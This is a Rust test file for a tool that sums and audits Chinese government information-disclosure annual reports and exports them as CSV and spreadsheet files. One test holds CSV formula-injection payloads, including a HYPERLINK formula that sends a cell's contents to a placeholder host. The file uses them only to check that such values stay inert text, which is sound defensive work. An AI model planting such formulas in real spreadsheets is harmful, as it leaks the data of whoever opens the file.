//! 汇总 and 检查 on the county of `tests/fixtures/county/` (made by its `make.mjs`): the same
//! sum from draft files and from the pages they export, every unit's verdict, the breakdown
//! and the audit's rows as spreadsheets that LibreOffice opens.

use crate::common::key;
use nianbao::report::area::audit::{self, Kind, Timeliness};
use nianbao::report::area::sum::{self, Target, Verdict};
use nianbao::report::area::{self, read_unit, workbook, UnitRead};
use nianbao::report::templates::OGI_2021;
use nianbao::report::{Severity, Sheet};
use std::path::{Path, PathBuf};
use std::process::Command;

fn county(dir: &str) -> Vec<UnitRead> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/county")
        .join(dir);
    let mut files: Vec<PathBuf> = std::fs::read_dir(&root)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    files.sort();
    files
        .iter()
        .map(|p| {
            let name = p.file_name().unwrap().to_str().unwrap();
            read_unit(name, &std::fs::read(p).unwrap())
        })
        .collect()
}

#[test]
fn a_county_sums_the_same_from_draft_files_and_from_pages() {
    let drafts = county("drafts");
    let pages = county("pages");
    assert_eq!(drafts.len(), 22);
    let target = Target::most_common(&drafts).unwrap();
    assert_eq!((target.template.id, target.year), ("ogi-2021", 2025));
    let verdicts = sum::assess(&drafts, &area::drafts(&drafts), &target);
    // Two break T3-balance, one is in the 2019 format, one is the first unit again.
    let with_errors: Vec<usize> = verdicts
        .iter()
        .enumerate()
        .filter(|(_, v)| matches!(v, Verdict::HasErrors(_)))
        .map(|(i, _)| i)
        .collect();
    assert_eq!(with_errors, [3, 12]);
    let refused: Vec<(usize, String)> = verdicts
        .iter()
        .enumerate()
        .filter_map(|(i, v)| match v {
            Verdict::Refused(why) => Some((i, why.zh.to_string())),
            _ => None,
        })
        .collect();
    assert_eq!(refused.len(), 2, "{refused:#?}");
    assert!(
        refused[0].1.starts_with("格式不同") && refused[0].1.contains("国办公开办函〔2019〕60号")
    );
    assert!(refused[1].1.contains("与第1个") && refused[1].1.contains("同一发布机构、同一年度"));
    let kinds = |v: &[Verdict]| v.iter().map(std::mem::discriminant).collect::<Vec<_>>();
    let (draft_drafts, page_drafts) = (area::drafts(&drafts), area::drafts(&pages));
    assert_eq!(
        kinds(&sum::assess(&pages, &page_drafts, &target)),
        kinds(&verdicts),
        "the pages are judged alike"
    );

    let none = vec![false; drafts.len()];
    let from_drafts = sum::sum(
        &drafts,
        &draft_drafts,
        &verdicts,
        &none,
        &target,
        "青禾市临江区人民政府",
        "s",
    )
    .unwrap();
    let from_pages = sum::sum(
        &pages,
        &page_drafts,
        &verdicts,
        &none,
        &target,
        "青禾市临江区人民政府",
        "s",
    )
    .unwrap();
    assert_eq!(from_drafts.included.len(), 18);
    assert_eq!(from_drafts.draft.cells, from_pages.draft.cells);
    // Every input cell is the sum of the units' (their computed totals add up too).
    let included: Vec<_> = from_drafts
        .included
        .iter()
        .map(|&i| drafts[i].draft().unwrap())
        .collect();
    let sheet = Sheet::compute(&OGI_2021, &from_drafts.draft);
    for cell in [
        "t3/new/total",
        "t3/total/total",
        "t4/cases/review-total",
        "t3/new/natural",
    ] {
        let k = key(cell);
        let each: i64 = included
            .iter()
            .map(|d| Sheet::compute(&OGI_2021, d).whole(k))
            .sum();
        assert_eq!(sheet.whole(k), each, "{cell}");
    }
    // The new draft names its units and has no error of its own but what is asked (发布机构 given).
    assert_eq!(from_drafts.draft.sources.len(), 18);
    assert_eq!(
        from_drafts.draft.sources[0].file,
        "01-青禾市临江区教育局.json"
    );
    let errors: Vec<_> = nianbao::report::check(&from_drafts.draft)
        .into_iter()
        .filter(|f| f.severity == Severity::Error && f.rule.id().starts_with('T'))
        .collect();
    assert!(errors.is_empty(), "{errors:#?}");
    assert!(sum::sentence(&from_drafts.draft)
        .unwrap()
        .starts_with("本报告由青禾市临江区人民政府汇总18个单位（青禾市临江区教育局、"));

    // With consent, the units with errors are summed too; nothing else changes.
    let mut yes = none.clone();
    yes[3] = true;
    yes[12] = true;
    let all = sum::sum(&drafts, &draft_drafts, &verdicts, &yes, &target, "", "s").unwrap();
    assert_eq!(all.included.len(), 20);
}

#[test]
fn the_breakdown_opens_in_libreoffice_with_its_numbers() {
    let drafts = county("drafts");
    let target = Target::most_common(&drafts).unwrap();
    let parsed = area::drafts(&drafts);
    let verdicts = sum::assess(&drafts, &parsed, &target);
    let summed = sum::sum(
        &drafts,
        &parsed,
        &verdicts,
        &vec![false; drafts.len()],
        &target,
        "区政府",
        "s",
    )
    .unwrap();
    let grid = sum::breakdown(&drafts, &parsed, &summed, &target);
    assert_eq!(grid.rows.len(), 19, "18 units and 合计");
    assert_eq!(grid.header.len(), 3 + OGI_2021.input_cells().count());
    assert!(
        grid.header
            .contains(&"三：一、本年新收政府信息公开申请数量 自然人".to_string()),
        "{:?}",
        &grid.header[..8]
    );
    let csv = workbook::csv(&grid).unwrap();
    assert!(csv.starts_with("\u{feff}单位（发布机构）,年度,来源文件,".as_bytes()));

    let dir = std::env::temp_dir().join(format!("nianbao-area-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let xlsx = dir.join("breakdown.xlsx");
    std::fs::write(&xlsx, workbook::xlsx(std::slice::from_ref(&grid)).unwrap()).unwrap();
    let back = libreoffice_csv(&xlsx, &dir);
    let lines: Vec<&str> = back.lines().collect();
    assert_eq!(lines.len(), 20, "{back}");
    assert!(lines[0].starts_with("单位（发布机构）,年度,来源文件,"));
    let total = lines.last().unwrap();
    let column = grid
        .header
        .iter()
        .position(|h| h == "三：一、本年新收政府信息公开申请数量 自然人")
        .unwrap();
    let from_calc: Vec<&str> = total.split(',').collect();
    assert_eq!(from_calc[0], "合计");
    assert_eq!(from_calc[column], summed.draft.cell(key("t3/new/natural")));
}

/// The first sheet of an .xlsx as LibreOffice Calc reads it, as CSV.
fn libreoffice_csv(xlsx: &Path, dir: &Path) -> String {
    let profile = format!("-env:UserInstallation=file://{}", dir.join("lo").display());
    let out = Command::new("soffice")
        .args([
            &profile,
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",
            "--outdir",
        ])
        .arg(dir)
        .arg(xlsx)
        .output()
        .expect("LibreOffice (soffice) runs: scripts/setup.sh test installs it");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    std::fs::read_to_string(xlsx.with_extension("csv")).unwrap()
}

#[test]
fn the_audit_lists_every_report_with_its_findings() {
    let mut units = county("pages");
    units.extend(county("series"));
    units.push(read_unit("broken.docx", b"PK\x03\x04 not really a zip"));
    let rows = audit::rows(&units, &vec![None; units.len()]);
    assert_eq!(rows.len(), 27);
    let by_file = |f: &str| rows.iter().find(|r| r.file.starts_with(f)).unwrap();
    // On time: 31 January for a department, 31 March for a government's own report.
    assert_eq!(by_file("06-").timeliness, Timeliness::Late { days: 12 });
    assert_eq!(by_file("06-").kind, Some(Kind::Department));
    assert_eq!(by_file("19-").kind, Some(Kind::Government));
    assert_eq!(by_file("19-").timeliness, Timeliness::Late { days: 8 });
    assert_eq!(by_file("20-").timeliness, Timeliness::OnTime);
    // The rules, read from the pages.
    let rules = |f: &str| {
        by_file(f)
            .findings
            .iter()
            .map(|x| x.rule.clone())
            .collect::<Vec<_>>()
    };
    assert_eq!(rules("04-"), ["T3-balance"]);
    assert!(rules("08-").iter().all(|r| r == "N-text") && rules("08-").len() == 2);
    assert!(
        by_file("08-").findings[0].place.contains("【8】"),
        "{:?}",
        by_file("08-").findings[0]
    );
    assert_eq!(rules("21-"), ["format"]);
    assert!(rules("01-").is_empty());
    // The series: each year against the year before; 2024's carry was broken on purpose.
    assert!(rules("东湖街道-2022").is_empty() && rules("东湖街道-2023").is_empty());
    assert_eq!(rules("东湖街道-2024"), ["X-carry"]);
    assert!(rules("东湖街道-2025").is_empty());
    // A file that cannot be read is listed with the reason.
    let broken = by_file("broken.docx");
    assert!(broken.refused.is_some());
    assert_eq!(broken.worst(), Some(Severity::Error));
    // The summary line the app shows and the CLI's tally count the same way.
    let tally = audit::Tally::of(&rows);
    assert_eq!(
        (
            tally.reports,
            tally.errors,
            tally.late,
            tally.unreadable,
            tally.flagged
        ),
        (27, 3, 2, 1, 6)
    );
    assert_eq!(
        tally.sentence().get(nianbao::report::Lang::Zh),
        "共27份：3份有错误，2份逾期，1份无法读取。"
    );
    // Kinds the person sets win over the guess.
    let mut kinds = vec![None; units.len()];
    kinds[5] = Some(Kind::Government);
    assert_eq!(
        audit::rows(&units, &kinds)[5].timeliness,
        Timeliness::OnTime
    );

    let [table, details] = audit::grids(&rows, nianbao::report::Lang::Zh);
    assert_eq!(table.rows.len(), 27);
    assert_eq!(
        details.rows.len(),
        rows.iter().map(|r| r.findings.len()).sum::<usize>()
    );
    let dir = std::env::temp_dir().join(format!("nianbao-audit-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let xlsx = dir.join("audit.xlsx");
    std::fs::write(&xlsx, workbook::xlsx(&[table, details]).unwrap()).unwrap();
    let back = libreoffice_csv(&xlsx, &dir);
    assert!(
        back.starts_with("文件,发布机构,年度,格式,公开日期,类型,截止日期,是否按时,错误,提示"),
        "{back}"
    );
    assert!(back.contains("逾期12天"));
}

#[test]
fn a_governments_report_published_by_its_office_is_the_governments() {
    assert_eq!(
        Kind::of_report(
            "平潭综合实验区管委会2023年政府信息公开工作年度报告",
            "平潭综合实验区管委会办公室"
        ),
        Some(Kind::Government)
    );
    assert_eq!(
        Kind::of_report(
            "2024年淮安市洪泽区人民政府政府信息公开工作年度报告",
            "洪泽区人民政府办公室"
        ),
        Some(Kind::Government)
    );
    assert_eq!(
        Kind::of_report("临江县教育局2024年政府信息公开工作年度报告", "临江县教育局"),
        Some(Kind::Department)
    );
}

#[test]
fn years_of_one_body_pair_across_a_region_prefix_or_an_office() {
    use nianbao::report::area::audit::same_body;
    assert_eq!(
        same_body("洪泽区人民政府", "淮安市洪泽区人民政府"),
        Some(false)
    );
    assert_eq!(
        same_body("平潭综合实验区", "平潭综合实验区管委会办公室"),
        Some(false)
    );
    assert_eq!(same_body("临江县教育局", "临江县教育局"), Some(true));
    assert_eq!(same_body("临江县教育局", "临江县水利局"), None);
    assert_eq!(same_body("临江县教育局", "青禾市教育局"), None);
}

#[test]
fn a_report_can_be_paired_by_hand_with_any_report_of_the_year_before() {
    use nianbao::report::area::audit::{earlier_candidates, rows_with, year_pairs};
    let unit = |body: &str, year: i32| {
        let d = nianbao::report::sample::varied(&OGI_2021, body, year, 7).unwrap();
        read_unit(
            &format!("{body}-{year}.json"),
            nianbao::report::file::to_file(&d).as_bytes(),
        )
    };
    // Two names no rule can tell are one body: not paired on their own, offered by hand.
    let units = vec![
        unit("临江区望湖街道办事处", 2025),
        unit("望湖街道", 2024),
        unit("临江区教育局", 2023),
    ];
    assert!(year_pairs(&units).is_empty());
    assert_eq!(earlier_candidates(&units, 0), [1]);
    assert_eq!(earlier_candidates(&units, 1), [2]);
    assert_eq!(
        nianbao::report::area::audit::named(&units, 1).zh,
        "第2份：望湖街道（2024年）"
    );
    let rows = rows_with(&units, &[], &[(0, Some(1))]);
    assert_eq!(rows[0].previous.as_deref(), Some("望湖街道-2024.json"));
    let unpaired = rows_with(&units, &[], &[]);
    assert_eq!(unpaired[0].previous, None);
}

#[test]
fn two_units_that_report_nothing_are_both_summed() {
    let zero = |body: &str| {
        let mut d = nianbao::report::Draft::new("z", &OGI_2021, 2025, body);
        d.fill_blanks(&OGI_2021, "t3");
        read_unit(
            &format!("{body}.json"),
            nianbao::report::file::to_file(&d).as_bytes(),
        )
    };
    let units = vec![zero("甲镇人民政府"), zero("乙镇人民政府")];
    let drafts = area::drafts(&units);
    let target = Target {
        template: &OGI_2021,
        year: 2025,
    };
    let verdicts = sum::assess(&units, &drafts, &target);
    assert!(verdicts.iter().all(|v| v.summed(false)), "{verdicts:?}");
}

#[test]
fn a_report_of_another_year_is_refused_for_its_year() {
    let mut d =
        nianbao::report::Draft::new("z", &nianbao::report::templates::OGI_2019, 2020, "甲镇");
    d.fill_blanks(&nianbao::report::templates::OGI_2019, "t3");
    let units = vec![read_unit(
        "a.json",
        nianbao::report::file::to_file(&d).as_bytes(),
    )];
    let target = Target {
        template: &OGI_2021,
        year: 2021,
    };
    let verdicts = sum::assess(&units, &area::drafts(&units), &target);
    match &verdicts[0] {
        Verdict::Refused(why) => assert!(why.zh.contains("年度不同"), "{why:?}"),
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_unit_named_like_a_formula_stays_text_in_the_csv_and_the_workbook() {
    let formulas = [
        "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"点此查看\")",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
    ];
    let grid = workbook::Grid {
        sheet: "检查结果".into(),
        header: vec!["发布机构".into()],
        rows: formulas
            .iter()
            .map(|f| vec![workbook::Cell::Text(f.to_string())])
            .collect(),
    };
    let csv = workbook::csv(&grid).unwrap();
    let mut reader = ::csv::Reader::from_reader(&csv[3..]);
    let read: Vec<String> = reader
        .records()
        .map(|r| r.unwrap().get(0).unwrap().to_string())
        .collect();
    let kept: Vec<String> = formulas.iter().map(|f| format!("'{f}")).collect();
    assert_eq!(read, kept, "each stays text behind an apostrophe");
    // Opened in LibreOffice, the workbook shows the words, not a computed value.
    let dir = std::env::temp_dir().join(format!("nianbao-formula-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let xlsx = dir.join("formula.xlsx");
    std::fs::write(&xlsx, workbook::xlsx(&[grid]).unwrap()).unwrap();
    let back = libreoffice_csv(&xlsx, &dir);
    assert!(
        back.contains("HYPERLINK") && back.contains("+1+1") && back.contains("@SUM"),
        "{back}"
    );
    assert!(
        !back.lines().any(|l| l.trim() == "2"),
        "a formula ran: {back}"
    );
}

#[test]
fn a_year_no_report_can_be_on_has_no_deadline_and_no_panic() {
    assert_eq!(Kind::Department.deadline(i32::MAX), "");
    assert_eq!(Kind::Government.deadline(2025), "2026-03-31");
}
